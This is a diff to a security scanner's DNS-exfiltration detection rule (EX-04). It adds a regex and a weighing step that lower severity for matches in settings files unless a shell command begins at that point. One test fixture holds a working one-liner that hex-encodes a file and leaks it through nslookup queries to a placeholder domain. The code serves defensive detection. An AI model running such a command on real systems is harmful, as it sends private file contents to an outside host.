@@ -25,6 +25,9 @@ import {
 import { runKinds, row, type PatternRule } from '../../engine/rule.ts';
 import { keysInNames } from './ex-02-published-secrets.ts';
 
+/** Where a command may begin in a value of settings. */
+const commandStart = /(?:^|["'`;&|(\n]|\\n|\b(?:do|then|sudo|run:))\s{0,8}$/;
+
 export const dataInDns: PatternRule = {
   id: 'EX-04',
   severity: 'high',
@@ -72,6 +75,11 @@ export const dataInDns: PatternRule = {
           edge,
         ),
       ],
+      // In a value of settings the names are words, unless the command begins there.
+      weigh: ({ match, region, severity }) =>
+        region.kind === 'config' && !commandStart.test(match.input.slice(0, match.index).slice(-24))
+          ? null
+          : severity,
       catches: [inFile('scripts/a.sh', 'for c in $(xxd -p notes.txt); do nslookup "$c.t.invalid"; done')],
       spares: [inFile('scripts/a.sh', 'nslookup "$HOST.example.com"', 'dig example.com')],
     }),
